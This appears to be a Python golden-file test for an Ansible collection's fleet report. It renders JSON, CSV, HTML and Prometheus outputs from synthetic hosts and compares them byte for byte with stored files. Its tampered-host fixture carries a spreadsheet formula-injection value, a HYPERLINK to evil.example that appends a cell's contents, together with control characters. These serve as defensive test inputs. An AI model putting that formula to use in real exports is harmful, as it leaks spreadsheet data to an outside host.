"""The fleet report's four outputs, byte for byte, on a fixture fleet (tests/fixtures/fleet_report/golden.*).

The fixture fleet: 48 synthetic hosts (tests/lab/fleet_synthetic.py: every state, go posture, record origin and MDM
case), a host whose record an agent tampered with (formulas, control characters, markup, long text, wrong types),
a host without record and one that failed in the run, at a fixed report time. Any change to what the report writes
shows here; a deliberate one regenerates the files:

    .venv/bin/python tests/unit/plugins/plugin_utils/test_fleet_report_golden.py --write
"""
import os
import sys

import pytest

HERE = os.path.dirname(os.path.abspath(__file__))
ROOT = os.path.dirname(os.path.dirname(os.path.dirname(os.path.dirname(HERE))))
GOLDEN = os.path.join(ROOT, 'tests', 'fixtures', 'fleet_report')
GENERATED_AT = '2026-11-27T18:05:00Z'
EXTENSIONS = {'json': 'json', 'csv': 'csv', 'html': 'html', 'prometheus': 'prom'}

if __name__ == '__main__':
    sys.path[:0] = [os.path.join(ROOT, 'tests'), os.path.join(ROOT, '.cache', 'collections')]

from ansible_collections.cifleet.gotime.plugins.filter import fleet_report as filters  # noqa: E402
from ansible_collections.cifleet.gotime.plugins.plugin_utils import _fleet_report as fr  # noqa: E402
from ansible_collections.cifleet.gotime.plugins.plugin_utils import _fleet_report_hosts as fhost  # noqa: E402
from ansible_collections.cifleet.gotime.plugins.plugin_utils import _fleet_report_record as frec  # noqa: E402
from lab import fleet_synthetic as fs  # noqa: E402


def tampered_record():
    result = fs.tampered_clock_result()
    go = fs.go_result('ok_insecure')
    go['env']['GOPROXY'] = '=HYPERLINK("http://evil.example/?"&A1,"x"),direct'
    return frec.make_record(result, go, origin='pull', recorder='agent-tampered\x07', now='2026-11-27T17:00:00Z',
                            time_servers=['ntp.corp.example'])


def fixture_records():
    records = fs.records(48, frec.make_record)
    records['agent-tampered'] = tampered_record()
    records['agent-never-seen'] = None
    for record in records.values():
        if record:
            record['origin']['collection_version'] = '0.0.0-golden'  # not galaxy.yml's: a release must not change the files
    return records


def document():
    return fr.build(fixture_records(), failed_hosts=['agent-0000'], generated_at=GENERATED_AT, max_age=3600,
                    source={'kind': 'fact_cache', 'plugin': 'ansible.builtin.jsonfile', 'connection': '/var/cache/gotime',
                            'prefix': None, 'timeout': 0, 'cache_hosts': 50, 'inventory_only_hosts': 0})


def rendered():
    return filters.fleet_report_render(document(), list(EXTENSIONS))


def golden_path(name):
    return os.path.join(GOLDEN, 'golden.%s' % EXTENSIONS[name])


@pytest.mark.parametrize('name', list(EXTENSIONS))
def test_output_is_byte_for_byte_the_golden_file(name):
    with open(golden_path(name), 'rb') as handle:
        expected = handle.read()
    assert rendered()[name].encode('utf-8') == expected


def test_golden_files_cover_every_state():
    # The fixture fleet is worth comparing: every report state, MDM state and a cut value appear in it.
    with open(golden_path('json'), encoding='utf-8') as handle:
        text = handle.read()
    for state in fhost.STATES[:-1] + fhost.MDM_STATES[:2] + fhost.MDM_STATES[3:]:
        assert '"%s"' % state in text, state
    assert '[cut: ' in text


if __name__ == '__main__' and sys.argv[1:] == ['--write']:
    for fmt, output in rendered().items():
        with open(golden_path(fmt), 'wb') as out:
            out.write(output.encode('utf-8'))
        print('wrote %s (%d bytes)' % (golden_path(fmt), len(output.encode('utf-8'))))
